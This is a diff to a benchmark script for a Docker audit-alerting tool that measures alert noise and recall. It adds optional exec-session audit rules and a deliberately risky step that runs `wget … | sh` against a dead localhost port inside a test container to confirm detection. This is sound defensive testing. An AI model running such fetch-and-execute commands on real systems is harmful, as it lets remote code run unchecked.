@@ -1,6 +1,6 @@
 """Benchmark: alert noise and recall on a realistic busy hour, compressed.
 
-Usage: python bench/noise.py [--rounds N]
+Usage: python bench/noise.py [--rounds N] [--exec-rules]
 
 Needs root, dockerd, containerd, a static busybox and auditd. It starts a
 private dockerd (tests/dockerd.py) and a private auditd (tests/test_audit_live.py,
@@ -19,7 +19,9 @@ health checks, a container in a restart loop, a stop and a clean-up;
 risky, once each: a privileged run, a run with /run mounted (it holds the
 Engine's socket), SYS_ADMIN added, a root shell exec, a write to daemon.json,
 a run of an untrusted image, a container created through the raw API with a
-forged `audit.who` label.
+forged `audit.who` label; with `--exec-rules` (deploy/audit/docktrail-exec.rules
+loaded, so every exec's commands are followed and judged), also `wget … | sh`
+run in a container.
 
 It prints the alerts per severity, the false HIGH/CRITICAL ones (above
 medium and not one of the risky steps), and the recall of the risky steps
@@ -44,6 +46,7 @@ from pathlib import Path
 from typing import Any
 
 REPO = Path(__file__).resolve().parents[1]
+EXEC_RULES = REPO / "deploy" / "audit" / "docktrail-exec.rules"
 sys.path.insert(0, str(REPO))
 
 from figures import figure  # noqa: E402
@@ -86,6 +89,23 @@ class Host:
         (self.etc_docker / "daemon.json").write_text("{}\n")
         for path in ("/usr/sbin/dockerd", str(self.etc_docker), str(self.daemon.data_root)):
             subprocess.run(["auditctl", "-w", path, "-k", "docker"], check=True)
+
+    @contextlib.contextmanager
+    def exec_rules(self) -> Iterator[None]:
+        """deploy/audit/docktrail-exec.rules (for the binaries this host has), then removed:
+        audit rules are the kernel's, they outlive the private auditd."""
+        loaded: list[list[str]] = []
+        try:
+            for line in EXEC_RULES.read_text().splitlines():
+                words = line.split()
+                paths = [w.split("=", 1)[1] for w in words if w.startswith(("exe=", "path="))]
+                if line.startswith("-a") and all(os.path.exists(p) for p in paths):
+                    subprocess.run(["auditctl", *words], check=True, capture_output=True)
+                    loaded.append(words)
+            yield
+        finally:
+            for words in reversed(loaded):
+                subprocess.run(["auditctl", "-d", *words[1:]], capture_output=True)
 
     def docker(self, person: Person | None, *argv: str, check: bool = True, **env: str) -> str:
         """The docker CLI as `person` (sudo pattern: root with their login uid) or as root."""
@@ -139,6 +159,13 @@ def routine(host: Host, round_no: int, build_dir: Path) -> None:
 def restart_loop(host: Host) -> None:
     host.docker(host.bob, "run", "-d", "--name", "flappy", "--restart", "always", *SAFE,
                 BUSYBOX_REF, "sh", "-c", "sleep 1; exit 1")  # fmt: skip
+
+
+def risky_exec(host: Host) -> list[Risky]:
+    """What the exec-session rules are for (nothing listens on port 9: argv is what counts)."""
+    host.docker(host.bob, "exec", "web-0", "sh", "-c", "wget -q -O- http://127.0.0.1:9/x | sh",
+                check=False)  # fmt: skip
+    return [Risky("code fetched and run in a container", "exec-code-fetch", "web-0")]
 
 
 def risky(host: Host) -> list[Risky]:
@@ -285,8 +312,15 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--rounds", type=int, default=6, help="routine rounds (default 6)")
     parser.add_argument("-v", "--verbose", action="store_true", help="list the alerts")
+    parser.add_argument(
+        "--exec-rules", action="store_true", help="also load docktrail-exec.rules (exec sessions)"
+    )
     args = parser.parse_args()
-    with private_host() as host, tempfile.TemporaryDirectory(prefix="noise-") as tmp:
+    with (
+        private_host() as host,
+        tempfile.TemporaryDirectory(prefix="noise-") as tmp,
+        host.exec_rules() if args.exec_rules else contextlib.nullcontext(),
+    ):
         build_dir = Path(tmp) / "build"
         build_dir.mkdir()
         service = Service(Path(tmp), host)
@@ -295,7 +329,7 @@ def main() -> None:
         try:
             restart_loop(host)
             routine(host, 0, build_dir)
-            steps = risky(host)
+            steps = risky(host) + (risky_exec(host) if args.exec_rules else [])
             for round_no in range(1, args.rounds):
                 routine(host, round_no, build_dir)
             time.sleep(3)  # the last events through attribution and rules
